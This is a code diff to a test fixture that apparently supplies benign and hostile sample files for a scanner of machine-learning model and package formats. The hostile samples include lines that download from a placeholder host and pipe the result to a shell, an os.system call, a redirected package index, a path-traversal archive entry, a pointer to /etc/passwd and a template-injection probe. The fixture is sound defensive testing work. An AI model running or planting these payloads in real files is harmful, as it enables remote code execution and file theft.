@@ -113,7 +113,7 @@ def _made() -> dict[str, list[bytes]]:
         "zip": [archive({"a.txt": b"hello", "b.pkl": EVIL}), archive({"a.bin": bytes(99)})],
         "pickle": [HONEST_PICKLE, EVIL, pickle.dumps([print], 0)],
         "pytorch-zip": [archive(torch), archive(torch | {"m/data.pkl": EVIL})],
-        "python-module": [b"import os\n\ndef f():\n    return os.getcwd()\n", b"import os\nos.system('id')\n"],
+        "python-module": [b"import os\n\nx = 1\n", b"import os\nos.system('id')\n"],
         "notebook": [_notebook("x = 1"), _notebook("!curl http://x.example/a | sh")],
         "shell": [b"#!/bin/sh\necho hello\n", b"#!/bin/sh\ncurl http://x.example/a | sh\n"],
         "requirements": [b"numpy==2.0\nscipy>=1\n", b"--index-url http://x.example\nnumpy==2.0\n"],
@@ -123,7 +123,10 @@ def _made() -> dict[str, list[bytes]]:
             archive(test_export._PLAIN | {"m/models/model.json": test_export._graph(target)})
             for target in ("_operator.mul", "os.system")
         ],
-        "python-source": [archive(torch | {"m/.data/extern_modules": b"", "m/x.py": b"import os\n"})],
+        "python-source": [
+            archive(torch | {"m/.data/extern_modules": b"", "m/x.py": b"import os\n"})
+        ],
+        "model-card": [b"---\nlicense: mit\ntags:\n- words\n---\n\n# A model\n"],
         "pytorch-tar": [test_legacy.old(), test_legacy.old(pickle=EVIL)],
         "pytorch-tar-part": [test_legacy.old(), test_legacy.old(storages=EVIL)],
         "tar": [tar({"a.txt": b"hello"}), tar({"a.pkl": EVIL, "../b": b"x"})],
@@ -148,7 +151,10 @@ def _made() -> dict[str, list[bytes]]:
         "7z": [sevenzip({"a.pkl": EVIL}), sevenzip({"a.txt": b"hello"})],
         "compressed": [gzip.compress(HONEST_PICKLE, mtime=0), gzip.compress(EVIL, mtime=0)],
         "executorch": [test_flatbuffers.pte()],
-        "tflite": [test_flatbuffers.tflite(), test_flatbuffers.tflite(test_flatbuffers.custom("E"))],
+        "tflite": [
+            test_flatbuffers.tflite(),
+            test_flatbuffers.tflite(test_flatbuffers.custom("E")),
+        ],
         "onnx-runtime": [test_flatbuffers.ort()],
         "tensorflow": [_tensorflow("Const", "Identity"), _tensorflow("WriteFile", "PyFunc")],
         "tensorflow-text": [b'node { name: "a" op: "WriteFile" }\nnode { name: "b" op: "NoOp" }\n'],
@@ -198,7 +204,9 @@ def _made() -> dict[str, list[bytes]]:
         "torchserve": [test_served.served("image_classifier"), test_served.served("handler.py")],
         "torchserve-manifest": [archive({"MAR-INF/MANIFEST.json": MANIFEST.encode()})],
         "llamafile": [
-            test_served.archive({".args": "-m\n/etc/passwd\n", "m.gguf": b"GGUF"}, elf() + bytes(64))
+            test_served.archive(
+                {".args": "-m\n/etc/passwd\n", "m.gguf": b"GGUF"}, elf() + bytes(64)
+            )
         ],
         "zarr-shard": [_shard()],
         "chat-template": [b"{% for m in messages %}{{ m }}{% endfor %}", b"{{ ''.__class__ }}"],
